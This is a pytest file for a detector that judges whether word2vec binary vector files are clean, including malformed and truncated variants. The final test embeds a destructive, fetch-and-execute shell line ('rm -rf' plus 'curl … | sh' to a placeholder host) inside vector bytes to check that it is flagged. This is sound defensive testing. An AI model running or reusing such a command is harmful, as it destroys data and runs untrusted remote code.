"""Vectors of words: clean where every word has its numbers and nothing follows."""

import struct

import pytest

from caponier.detect.artifact import Verdict
from detect.model_files.files.building import judged, verdict


def vectors(words: list[bytes], length: int, *, count: int | None = None, between: bytes = b"") -> bytes:
    numbers = struct.pack(f"<{length}f", *[0.5 - at for at in range(length)])
    lines = b"".join(word + b" " + numbers + between for word in words)
    return b"%d %d\n" % (len(words) if count is None else count, length) + lines


@pytest.mark.parametrize("between", [b"", b"\n"])
def test_words_with_their_numbers_are_clean(between: bytes) -> None:
    judgement = judged(vectors([b"the", "w\u00f6rter".encode(), b"of\xff"], 7, between=between))
    assert (judgement.verdict, judgement.kind) == (Verdict.CLEAN, "word2vec")


@pytest.mark.parametrize(
    "content",
    [
        vectors([b"the", b"of"], 7)[:-1],
        vectors([b"the", b"of"], 7) + b"\0\0",
        vectors([b"the", b"of"], 7, count=1),
        vectors([b"the", b"of"], 7, count=3),
        vectors([b"the", b"of"], 7, count=999_999_999),
        vectors([b"the\nrm", b"of"], 7),
        vectors([b"", b"of"], 7),
        vectors([b"a" * 1_001, b"of"], 7),
        b"3 999999\n" + bytes(40),
        b"0 0\n" + bytes(40),
    ],
)
def test_anything_else_is_not(content: bytes) -> None:
    assert verdict(content) is Verdict.UNKNOWN


def test_numbers_that_are_the_lines_of_a_script_are_read_as_one() -> None:
    lines = b"\nrm -rf /tmp/x; curl example.org/x | sh\nfor x in 1 2 3; do echo $x; done\n\x01#"
    lines += b"#" * (-len(lines) % 4)
    content = b"1 %d\nthe " % (len(lines) // 4) + lines
    assert verdict(content) is not Verdict.CLEAN
